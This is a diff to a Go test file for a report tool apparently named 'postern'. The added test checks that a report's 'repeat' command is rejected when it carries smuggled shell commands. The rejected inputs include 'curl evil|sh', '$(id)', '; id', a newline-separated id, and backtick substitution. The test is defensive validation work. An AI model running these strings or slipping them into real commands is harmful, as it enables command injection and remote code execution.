@@ -12,7 +12,7 @@ import (
 
 func sample() *Report {
 	r := &Report{
-		Suite: Suite{"1", 1, "abc"}, Target: "demo", Product: Product{shim.RoleLock, "clock", "2", shim.L2},
+		Suite: Suite{"1", 1, "abc"}, Target: "demo", Product: Product{Role: shim.RoleLock, Name: "clock", Version: "2", Level: shim.L2},
 		Claims: Claims{Profiles: 15, Options: []string{"button"}}, Seeds: []uint64{1}, Started: time.Unix(1800000000, 0).UTC(), Took: 1500,
 	}
 	for _, v := range Verdicts {
@@ -136,4 +136,27 @@ fault:
 again: postern run --case LOCK-APDU-001
 `, sample().Results[0].Details())
 	require.Equal(t, "the fault: a <bad> byte\nbecause \x00\n", sample().Results[0].Finding())
+}
+
+// TestRepeatIsNoOtherCommand: what people copy out of a stranger's report runs
+// nothing but the tool.
+func TestRepeatIsNoOtherCommand(t *testing.T) {
+	for command, good := range map[string]bool{
+		"postern run --target 'demo' --case LOCK-CHAIN-001 --seed 1":                 true,
+		`postern run --role app --target 'exec:it'\''s' --control 'exec:b' --seed 7`: true,
+		"postern run; curl evil|sh":                         false,
+		"postern run --target 'demo' --case $(id) --seed 1": false,
+		"postern run --target 'demo'; id":                   false,
+		"postern run --target 'demo' --case A --seed 1\nid": false,
+		"postern run --target demo`id`":                     false,
+		`postern run --target \'demo;id'`:                   false,
+		"evil --target 'demo'":                              false,
+	} {
+		r := sample()
+		r.Results[0].Repeat = command
+		b, err := r.Encode()
+		require.NoError(t, err)
+		_, err = Decode(b)
+		require.Equal(t, good, err == nil, "%s: %v", command, err)
+	}
 }
